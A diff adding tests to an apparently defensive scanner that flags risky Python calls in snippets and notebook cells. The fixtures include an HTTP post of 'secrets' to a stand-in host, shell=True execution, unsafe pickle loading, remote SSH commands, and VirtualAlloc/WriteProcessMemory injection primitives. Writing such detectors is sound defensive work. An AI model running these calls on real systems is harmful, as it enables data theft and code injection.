@@ -466,3 +466,28 @@ describe('python families: constant dynamic imports are imports', () => {
     }
   });
 });
+
+describe('python families: snippets and notebook cells without their imports', () => {
+  itFlags([
+    ['requests.post', 'requests.post("https://x.example", data=secrets)', 'network-http', 1],
+    ['urllib.request.urlretrieve', 'urllib.request.urlretrieve(url, "f")', 'network-http', 1],
+    ['subprocess.Popen', 'subprocess.Popen(["ls"])', 'command-execution', 1],
+    ['bare Popen', 'p = Popen(cmd, stdout=PIPE)', 'command-execution', 1],
+    ['bare check_output with shell=True', 'out = check_output("id", shell=True)', 'shell-true', 1],
+    ['np.load with pickles', 'arr = np.load("x.npy", allow_pickle=True)', 'unsafe-deserialization', 1],
+    ['torch.load', 'model = torch.load("model.pt")', 'unsafe-deserialization', 1],
+    ['pd.read_pickle', 'df = pd.read_pickle(path)', 'unsafe-deserialization', 1],
+    ['paramiko', 'c = paramiko.SSHClient()\nc.exec_command(cmd)', 'command-execution', 2],
+    ['windll without ctypes', 'windll.kernel32.VirtualAlloc(0, n, 0x3000, 0x40)', 'native-code', 1],
+    ['kernel32 without its definition', 'kernel32.WriteProcessMemory(h, a, b, n, None)', 'native-code', 1],
+    ['Path.write_text', 'Path("out.txt").write_text(data)', 'file-write', 1],
+  ]);
+  itQuiet([
+    ['a local Popen', 'def Popen(cmd):\n    return cmd\nPopen(["ls"])'],
+    ['a variable named requests', 'requests = []\nrequests.append(r)\nfor r in requests:\n    print(r)'],
+    ['a parameter named requests', 'def handle(requests):\n    return requests.get("k")'],
+    ['requests imported from elsewhere', 'from .models import requests\nrequests.post(x)'],
+    ['a class named Path', 'class Path:\n    def write_text(self, s):\n        pass\nPath().write_text("x")'],
+    ['the names in strings and comments', '# requests.post(url)\nprint("subprocess.Popen(cmd)")'],
+  ]);
+});
